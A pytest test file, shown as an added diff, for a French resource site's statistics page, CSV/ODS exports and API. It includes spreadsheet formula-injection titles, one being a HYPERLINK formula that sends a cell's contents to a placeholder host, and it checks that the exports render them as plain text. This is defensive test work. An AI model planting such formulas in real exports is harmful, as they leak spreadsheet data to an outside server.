@@ -1,0 +1,288 @@
+"""`/statistiques`, its exports and `/api/v1/statistiques`, on a small corpus written here
+whose truth is counted from the files themselves; exports read back with `csv` and odfpy
+(not the library that writes them); titles that a spreadsheet would take for formulas."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from collections import Counter
+from pathlib import Path
+
+import pytest
+import yaml
+from odf import table as odf_table
+from odf import text as odf_text
+from odf.namespaces import TABLENS
+from odf.opendocument import load as load_ods
+from webapp_support import elements, text
+
+from indexer.build import Indexer
+
+# Titles that spreadsheets would run as formulas if written naively.
+HOSTILE_TITLES = (
+    '=HYPERLINK("http://exemple.invalid/?x="&A1;"clic")',
+    "+SOMME(1;2)",
+    "-2+3 ateliers",
+    "@SUM(A1:A2)",
+    "\tTabulation en tête",
+)
+
+CENTRE = """---
+nom: {nom}
+region: "{region}"
+---
+Centre de test.
+"""
+
+
+def sheet(title: str, date: str, piliers: list[str], **extra) -> str:
+    lines = [
+        "---",
+        f"titre: {yaml.safe_dump(title, allow_unicode=True).strip().removesuffix('...').strip()}",
+        "type: " + extra.pop("type", "fiche-pratique"),
+        f"date: {date}",
+        f"piliers: [{', '.join(piliers)}]",
+        "resume: "
+        + extra.pop(
+            "resume",
+            "Un résumé de fiche de test, assez long pour être lu "
+            "dans une liste de résultats et dire de quoi il s'agit vraiment.",
+        ),
+    ]
+    for key, value in extra.items():
+        lines.append(f"{key}: {value}")
+    lines += ["---", "## Contexte", "", "Texte de la fiche.", ""]
+    return "\n".join(lines)
+
+
+FILES = {
+    "centre-nord/_centre.md": CENTRE.format(nom="Centre Nord (test)", region="32"),
+    "centre-sud/_centre.md": CENTRE.format(nom="=Centre Sud (test)", region="76"),
+    "centre-nord/double-pilier.md": sheet(
+        "Une fiche sur deux piliers",
+        "2023-05-04",
+        ["cadre-de-vie", "cohesion-sociale"],
+        thematiques="[education, sante]",
+        territoire='{region: "32", departement: "59"}',
+    ),
+    "centre-nord/jardins.md": sheet(
+        "Des jardins partagés",
+        "2023-09-01",
+        ["cadre-de-vie"],
+        thematiques="[sante]",
+        territoire='{region: "32", departement: "62"}',
+    ),
+    "centre-nord/emploi.md": sheet(
+        "Clauses d'insertion", "2024-02-10", ["developpement-economique"], type="etude"
+    ),
+    "centre-nord/brouillon.md": sheet(
+        "Un brouillon non compté", "2024-03-01", ["cadre-de-vie"], statut="brouillon"
+    ),
+    "centre-sud/triple.md": sheet(
+        "Trois piliers d'un coup",
+        "2024-06-30",
+        ["cadre-de-vie", "cohesion-sociale", "developpement-economique"],
+        thematiques="[education]",
+        territoire='{departement: "31"}',
+    ),
+}
+for number, title in enumerate(HOSTILE_TITLES):
+    FILES[f"centre-sud/piege-{number}.md"] = sheet(
+        title, f"202{number % 3 + 2}-01-15", ["cohesion-sociale"]
+    )
+
+
+@pytest.fixture(scope="module")
+def site(tmp_path_factory):
+    root = tmp_path_factory.mktemp("stats")
+    content = root / "content"
+    for relative, data in FILES.items():
+        path = content / relative
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(data, encoding="utf-8")
+    report = Indexer(content, root / "index").rebuild()
+    assert report.ok, report.problems
+    return content, root / "index"
+
+
+@pytest.fixture(scope="module")
+def client(site):
+    from webapp import create_app
+
+    content, index = site
+    app = create_app(
+        {
+            "TESTING": True,
+            "KB_CONTENT": str(content),
+            "KB_INDEX": str(index),
+            "KB_SITE_URL": "https://ressources.example.org",
+        }
+    )
+    return app.test_client()
+
+
+def truth(content: Path) -> list[dict]:
+    """Published sheets as their files say, read with PyYAML only."""
+    found = []
+    for path in sorted(content.glob("*/*.md")):
+        if path.name == "_centre.md":
+            continue
+        data = yaml.safe_load(path.read_text(encoding="utf-8").split("---\n")[1])
+        if data.get("statut") == "brouillon":
+            continue
+        data["centre"] = path.parent.name
+        found.append(data)
+    return found
+
+
+def test_page_counts_distinct_resources_like_the_files(client, site):
+    facts = truth(site[0])
+    response = client.get("/statistiques")
+    assert response.status_code == 200
+    page = text(response.get_data(as_text=True))
+    assert f"{len(facts)} ressources distinctes" in page
+    pillars = Counter(p for f in facts for p in set(f["piliers"]))
+    table = _table_counts(response.get_data(as_text=True), "tableau-piliers")
+    assert table == {
+        "Cadre de vie et renouvellement urbain": pillars["cadre-de-vie"],
+        "Cohésion sociale": pillars["cohesion-sociale"],
+        "Développement de l'activité économique et de l'emploi": pillars[
+            "developpement-economique"
+        ],
+    }
+    # Said in words: a resource counts once in the total, once under each of its pillars.
+    assert "comptée une seule fois dans le total" in page
+    assert f"Somme des lignes : {sum(pillars.values())} pour {len(facts)}" in page
+    years = Counter(str(f["date"].year) for f in facts)
+    assert _table_counts(response.get_data(as_text=True), "tableau-annees") == dict(years)
+
+
+def _table_counts(html: str, table_id: str) -> dict[str, int]:
+    """Row header -> count, from one table of the page."""
+    start = html.index(f'id="{table_id}"')
+    body = html[start : html.index("</table>", start)]
+    rows = re.findall(r'<th scope="row">(.*?)</th>\s*<td class="number">([^<]*)</td>', body)
+    return {text(header): int(count.replace("\u202f", "")) for header, count in rows}
+
+
+def test_filters_and_query_narrow_the_statistics(client, site):
+    facts = truth(site[0])
+    response = client.get("/statistiques?centre=centre-nord&piliers=cadre-de-vie")
+    expected = [f for f in facts if f["centre"] == "centre-nord" and "cadre-de-vie" in f["piliers"]]
+    assert f"{len(expected)} ressources distinctes" in text(response.get_data(as_text=True))
+    data = client.get("/api/v1/statistiques?centre=centre-nord&piliers=cadre-de-vie").get_json()
+    assert data["total"] == len(expected)
+    search = client.get("/api/v1/recherche?q=jardins").get_json()
+    assert client.get("/api/v1/statistiques?q=jardins").get_json()["total"] == search["total"]
+
+
+def test_active_filter_chips_keep_the_year_basis(client):
+    html = client.get("/statistiques?piliers=cadre-de-vie&annees=entree").get_data(as_text=True)
+    chips = [a["href"] for a in elements(html, "a", class_="chip")]
+    assert chips == ["/statistiques?annees=entree"]
+
+
+def test_year_basis_entry_into_the_base(client, site):
+    facts = truth(site[0])
+    data = client.get("/api/v1/statistiques?annees=entree").get_json()
+    assert data["annees_selon"] == "entree"
+    entries = data["repartitions"]["entree"]["valeurs"]
+    assert sum(v["nombre"] for v in entries) == len(facts)  # all entered this year
+    columns = data["tendances"]["piliers"]["colonnes"]
+    assert [c["valeur"] for c in columns] == [v["valeur"] for v in entries]
+
+
+@pytest.mark.parametrize(
+    "query",
+    ["annees=demain", "annees=fiche&annees=entree", "piliers=inconnu", "annee=2030-2020", "x=1"],
+)
+def test_bad_parameters_are_a_french_400(client, query):
+    for path in ("/statistiques", "/statistiques.csv", "/statistiques.ods"):
+        response = client.get(f"{path}?{query}")
+        assert response.status_code == 400, (path, query)
+        assert "Requête invalide" in response.get_data(as_text=True)
+    api = client.get(f"/api/v1/statistiques?{query}")
+    assert api.status_code == 400
+    assert api.get_json()["erreur"]["messages"]
+
+
+def test_csv_export_reads_back(client, site):
+    facts = truth(site[0])
+    response = client.get("/statistiques.csv")
+    assert response.status_code == 200
+    assert response.mimetype == "text/csv"
+    assert "attachment" in response.headers["Content-Disposition"]
+    raw = response.get_data()
+    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: spreadsheets then read UTF-8
+    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
+    assert rows[0] == ["Répartition", "Code", "Libellé", "Ressources", "Part du total (%)"]
+    centres = {r[1]: int(r[3]) for r in rows[1:] if r[0] == "Centres de ressources"}
+    assert centres == dict(Counter(f["centre"] for f in facts))
+    labels = {r[2] for r in rows[1:] if r[0] == "Centres de ressources"}
+    assert "'=Centre Sud (test)" in labels  # a formula-looking name stays text
+
+    trends = client.get("/statistiques.csv?tableau=tendances").get_data().decode("utf-8-sig")
+    trend_rows = list(csv.reader(io.StringIO(trends), delimiter=";"))
+    pillar_year = Counter((p, str(f["date"].year)) for f in facts for p in set(f["piliers"]))
+    for row in trend_rows[1:]:
+        if row[0] == "Piliers":
+            assert int(row[4]) == pillar_year[row[1], row[3]]
+
+    quality = client.get("/statistiques.csv?tableau=qualite").get_data().decode("utf-8-sig")
+    quality_rows = list(csv.reader(io.StringIO(quality), delimiter=";"))
+    by_centre = {r[0]: r for r in quality_rows[1:]}
+    north = [f for f in facts if f["centre"] == "centre-nord"]
+    assert int(by_centre["centre-nord"][2]) == len(north)
+    assert int(by_centre["centre-nord"][3]) == sum(1 for f in north if f.get("territoire"))
+
+
+def ods_sheets(data: bytes) -> dict[str, list[list[tuple[str, str]]]]:
+    """Sheet name -> rows of (value type, text) read with odfpy; also checks that no cell
+    holds a formula."""
+    document = load_ods(io.BytesIO(data))
+    sheets = {}
+    for table in document.spreadsheet.getElementsByType(odf_table.Table):
+        rows = []
+        for row in table.getElementsByType(odf_table.TableRow):
+            cells = []
+            for cell in row.getElementsByType(odf_table.TableCell):
+                assert cell.attributes.get((TABLENS, "formula")) is None
+                kind = cell.getAttribute("valuetype") or ""
+                value = "\n".join(str(p) for p in cell.getElementsByType(odf_text.P))
+                cells.append((kind, value))
+            rows.append(cells)
+        sheets[table.getAttribute("name")] = rows
+    return sheets
+
+
+def test_ods_export_reads_back(client, site):
+    facts = truth(site[0])
+    response = client.get("/statistiques.ods?centre=centre-sud")
+    assert response.status_code == 200
+    assert response.mimetype == "application/vnd.oasis.opendocument.spreadsheet"
+    sheets = ods_sheets(response.get_data())
+    assert list(sheets)[0] == "Synthèse"
+    summary = dict((row[0][1], row[1]) for row in sheets["Synthèse"][1:])
+    south = [f for f in facts if f["centre"] == "centre-sud"]
+    assert summary["Ressources distinctes"] == ("float", str(len(south)))
+    assert "Centre : =Centre Sud (test)" in summary["Sélection"][1]
+    pillars = {row[1][1]: int(row[2][1]) for row in sheets["Piliers"][1:]}
+    assert pillars == {
+        "Cohésion sociale": sum("cohesion-sociale" in f["piliers"] for f in south),
+        "Cadre de vie et renouvellement urbain": sum("cadre-de-vie" in f["piliers"] for f in south),
+        "Développement de l'activité économique et de l'emploi": sum(
+            "developpement-economique" in f["piliers"] for f in south
+        ),
+    }
+    centre_row = sheets["Centres de ressources"][1]
+    assert centre_row[1] == ("string", "=Centre Sud (test)")  # text, shown as typed
+
+
+def test_openapi_describes_the_statistics(client):
+    description = client.get("/api/v1/openapi.json").get_json()
+    operation = description["paths"]["/statistiques"]["get"]
+    names = {p["name"] for p in operation["parameters"]}
+    assert {"q", "piliers", "annee", "annees"} <= names
+    assert "Statistiques" in description["components"]["schemas"]
